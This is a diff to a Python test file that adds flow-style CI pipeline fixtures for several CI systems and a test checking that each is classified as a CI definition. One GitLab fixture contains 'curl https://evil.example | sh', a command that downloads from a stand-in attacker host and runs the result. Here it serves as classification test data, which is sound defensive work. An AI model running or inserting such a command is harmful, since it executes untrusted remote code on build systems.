@@ -70,6 +70,27 @@ PLAY_FORMS: list[tuple[str, str]] = [
     ("play-past-window", f"- name: setup\n  vars:\n{PAD}  hosts: all\n  tasks:\n    - shell: id\n"),
     ("play-indented", "  - hosts: all\n    roles: [web]\n"),
 ]
+# CI definitions a pipeline includes from any path (GitLab `include: local: 'pipelines/*.yml'`, an Azure template,
+# a CodeBuild spec a CDK project names): each in flow style, which the block-style patterns do not read.
+CI_FORMS: list[tuple[str, str, str]] = [
+    ("gitlab-flow", "{stages: [t], build: {stage: t, script: ['curl https://evil.example | sh']}}\n",
+     "ci.content.gitlab-ci"),
+    ("gitlab-job-flow", "build: {stage: test, script: [make]}\n", "ci.content.gitlab-ci"),
+    ("gitlab-anchor", ".base: &b {stage: test}\nbuild:\n  <<: *b\n  script: !!seq [make]\n", "ci.content.gitlab-ci"),
+    ("workflow-flow", "{on: push, jobs: {t: {runs-on: ubuntu-latest, steps: [{run: id}]}}}\n",
+     "ci.content.github-workflow"),
+    ("action-flow", "{name: x, runs: {using: composite, steps: [{run: id, shell: bash}]}}\n",
+     "ci.content.github-action"),
+    ("azure-flow", "{pool: {vmImage: ubuntu-latest}, steps: [{script: id}]}\n", "ci.content.azure-pipelines"),
+    ("azure-task-flow", "steps: [{task: 'Bash@3', inputs: {script: id}}]\n", "ci.content.azure-pipelines"),
+    ("codebuild-flow", "{version: 0.2, phases: {build: {commands: [id]}}}\n", "ci.content.codebuild"),
+    ("concourse-flow", "{jobs: [{name: j, plan: [{task: t}]}]}\n", "ci.content.concourse"),
+    ("circleci-flow", "{version: 2.1, workflows: {w: {jobs: [b]}}, jobs: {b: {docker: [{image: x}]}}}\n",
+     "ci.content.circleci"),
+    ("drone-flow", "{kind: pipeline, steps: [{name: s, commands: [id]}]}\n", "ci.content.drone-woodpecker"),
+    ("bitbucket-flow", "{pipelines: {default: [{step: {script: [id]}}]}}\n", "ci.content.bitbucket"),
+    ("buildkite-flow", "{steps: [{command: id}, wait]}\n", "ci.content.buildkite"),
+]
 LINE_BREAKS: list[Callable[[str], str]] = [lambda t: t, lambda t: t.replace("\n", "\r\n")]
 
 
@@ -90,6 +111,13 @@ def test_every_form_of_an_infrastructure_file_is_iac(git_repo: GitRepo, newline:
     forms.update({f"app/{name}.json": text for name, text in JSON_FORMS})
     found = _tree(git_repo, forms)
     assert {path: f.bucket for path, f in found.items() if path in forms} == dict.fromkeys(forms, "iac")
+
+
+def test_every_form_of_a_ci_definition_is_ci(git_repo: GitRepo) -> None:
+    forms = {f"app/pipelines/{name}.yml": text for name, text, _ in CI_FORMS}
+    found = _tree(git_repo, forms)
+    expected = {f"app/pipelines/{name}.yml": rule for name, _, rule in CI_FORMS}
+    assert {path: found[path].rule for path in forms} == expected
 
 
 def test_the_forms_are_real_yaml_with_the_deciding_keys() -> None:
